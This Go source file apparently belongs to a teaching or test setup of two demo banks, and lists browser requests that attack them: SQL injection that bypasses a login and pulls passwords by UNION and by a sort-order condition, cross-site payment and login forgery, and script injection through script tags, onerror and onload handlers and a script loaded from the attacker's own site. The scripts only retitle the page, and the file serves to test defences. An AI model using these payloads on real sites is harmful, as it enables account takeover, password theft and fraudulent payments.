// Package attacker has the attacks on the two banks, and a page of the attacker's own
// site from which a browser makes them. The attacker is eve, a customer.
package attacker

import "net/url"

// Taken is the title that the scripts of the attacks give to a page in which they run.
const Taken = "taken over"

// stolen is the script that all of them run. It has no quotes, so that it fits into
// attributes and into a query.
const stolen = "top.document.title=`" + Taken + "`"

// letter is a column to sort by that is one thing or another, as a password begins.
const letter = "CASE WHEN (SELECT password FROM account WHERE name='ada') LIKE 'a%' THEN city ELSE name END"

// An Attack is one request of a browser. The requests of [Attacks] are all well formed.
type Attack struct {
	Scenario, Name string
	Method, Path   string
	Fields         url.Values // the query of a GET, the form of a POST
	// From is the header Sec-Fetch-Site: cross-site or same-site when a page of the
	// attacker asks, same-origin when eve uses the bank's own form.
	From string
}

// Link is where a GET goes.
func (a Attack) Link(victim string) string { return victim + a.Path + "?" + a.Fields.Encode() }

// Attacks returns all of them, for an attacker whose site is at an origin such as
// http://localhost:8002.
func Attacks(origin string) []Attack {
	script := "<script>" + stolen + "</script>"
	link := func(scenario, name, path string, fields url.Values) Attack {
		return Attack{scenario, name, "GET", path, fields, "cross-site"}
	}
	hello := func(name, text string) Attack { return link("xss", name, "/hello", url.Values{"name": {text}}) }
	find := func(name string, fields url.Values) Attack { return link("sql", name, "/accounts", fields) }
	pay := url.Values{"to": {"eve"}, "amount": {"10"}}
	return []Attack{
		{"sql", "log in as ada without her password", "POST", "/login", url.Values{"name": {"ada"}, "password": {"' OR '1'='1"}}, "same-origin"},
		find("all passwords, by a union", url.Values{"q": {"zz' UNION SELECT name, password FROM account --"}}),
		find("all customers, by a condition", url.Values{"q": {"zz%' OR 1=1 --"}}),
		find("a letter of a password, by the order", url.Values{"q": {""}, "by": {letter}}),
		{"csrf", "a payment, by a page of another site", "POST", "/pay", pay, "cross-site"},
		{"csrf", "a payment, by a page of another port", "POST", "/pay", pay, "same-site"},
		{"login", "ada uses the bank as eve, without knowing", "POST", "/login", url.Values{"name": {"eve"}, "password": {"evil"}}, "cross-site"},
		hello("a script in a link", script),
		hello("an event handler in a link", `<img src="/nothing" onerror="`+stolen+`">`),
		hello("a drawing's handler in a link", `<svg onload="`+stolen+`">`),
		{"xss", "a script that all who come later read", "POST", "/say", url.Values{"text": {script}}, "same-origin"},
		link("xss", "a document inside an attribute, which is escaped in vain", "/preview", url.Values{"text": {script}}),
		link("xss", "a script's address, which is escaped in vain", "/widget", url.Values{"src": {origin + "/steal.js"}}),
	}
}
